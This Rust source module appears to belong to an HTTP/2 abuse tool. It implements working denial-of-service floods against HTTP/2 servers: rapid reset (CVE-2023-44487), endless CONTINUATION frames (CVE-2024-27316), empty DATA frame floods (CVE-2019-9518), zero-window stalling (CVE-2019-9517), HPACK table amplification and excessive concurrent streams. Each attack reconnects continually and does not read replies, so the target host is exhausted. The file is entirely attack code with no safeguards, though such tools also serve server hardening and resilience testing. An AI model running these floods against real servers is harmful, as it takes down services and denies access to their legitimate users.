//! Abuse of HTTP/2, frame by frame: what a browser's own library would never send.
//! Must stay true: each opens a new connection when its last was ended, for as long as the kind goes on.

use super::abuser::Abuser;
use super::wire::{Line, frame, head};
use std::io;

/// Frames sent in one piece.
const PIECE: usize = 200;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
/// Flags of a frame of headers.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Methods by their number in HPACK's table.
const GET: u8 = 2;
const POST: u8 = 3;

/// The same frame as fast as it goes. What comes back is not read, so that soon nothing can be answered.
pub fn stream_of(it: &Abuser, kind: u8, stream: u32, payload: &[u8]) {
    let many = frame(kind, 0, stream, payload).repeat(PIECE);
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        // No room to send on is what the program may do about it.
        while !it.is_over() && line.send(&many).is_ok() {}
        Ok(None)
    });
}

/// Streams opened and taken back in one breath (CVE-2023-44487).
pub fn rapid_reset(it: &Abuser) {
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        for first in (1..200_000_u32).step_by(2 * PIECE) {
            let one =
                |id| [request(it, GET, END_STREAM, id), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat();
            let many: Vec<u8> = (0..PIECE as u32).flat_map(|n| one(first + 2 * n)).collect();
            line.send(&many)?;
            if it.is_over() {
                break;
            }
        }
        to_end(it, &mut line)
    });
}

/// A head whose end never comes (CVE-2024-27316).
pub fn continuation(it: &Abuser) {
    let more = [&[0x00, 1, b'x', 126][..], &[b'y'; 126]].concat().repeat(100);
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        line.send(&frame(HEADERS, END_STREAM, 1, &head(GET, &it.target.host)))?;
        while !it.is_over() {
            line.send(&frame(CONTINUATION, 0, 1, &more))?;
        }
        Ok(None)
    });
}

/// One header of four kilobytes put into HPACK's table, and named by its number ten thousand times.
pub fn unfolding(it: &Abuser) {
    // Literal with indexing, a name of one letter, a value of 3,900: its length in HPACK's way of writing numbers.
    let kept = [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d][..], &[b'y'; 3_900]].concat();
    // 62 is the number of what was put into the table last.
    let named = vec![0x80 | 62; 10_000];
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        let first = [head(GET, &it.target.host), kept.clone(), named.clone()].concat();
        line.send(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &first))?;
        for id in (3..2_000).step_by(2) {
            let again = [head(GET, &it.target.host), named.clone()].concat();
            line.send(&frame(HEADERS, END_STREAM | END_HEADERS, id, &again))?;
            if it.is_over() {
                break;
            }
        }
        to_end(it, &mut line)
    });
}

/// A body of nothing, in pieces without number (CVE-2019-9518).
pub fn empty_pieces(it: &Abuser) {
    let many = frame(DATA, 0, 1, &[]).repeat(PIECE);
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        line.send(&request(it, POST, 0, 1))?;
        while !it.is_over() && line.send(&many).is_ok() {}
        Ok(None)
    });
}

/// As many requests as are allowed on each connection, and no room for one byte of the answers (CVE-2019-9517).
pub fn no_room(it: &Abuser) {
    let none = [0, 4, 0, 0, 0, 0];
    it.hold(
        || {
            let mut line = it.shake_two(&none)?;
            let many: Vec<u8> = (0..100).flat_map(|n| request(it, GET, END_STREAM, 1 + 2 * n)).collect();
            line.send(&many).map(|()| line)
        },
        |_| Ok(()),
    );
    it.let_go();
}

/// Thousands of requests at once on each connection, whatever the program allows.
pub fn many_streams(it: &Abuser) {
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        for first in (1..40_000_u32).step_by(2 * PIECE) {
            let many: Vec<u8> = (0..PIECE as u32).flat_map(|n| request(it, POST, 0, first + 2 * n)).collect();
            line.send(&many)?;
            if it.is_over() {
                break;
            }
        }
        to_end(it, &mut line)
    });
}

fn request(it: &Abuser, method: u8, flags: u8, id: u32) -> Vec<u8> {
    frame(HEADERS, flags | END_HEADERS, id, &head(method, &it.target.host))
}

/// Reads on to the end the other side makes. Errors: there it is.
fn to_end<T>(it: &Abuser, line: &mut Line) -> io::Result<Option<T>> {
    while !it.is_over() {
        line.drain()?;
    }
    Ok(None)
}
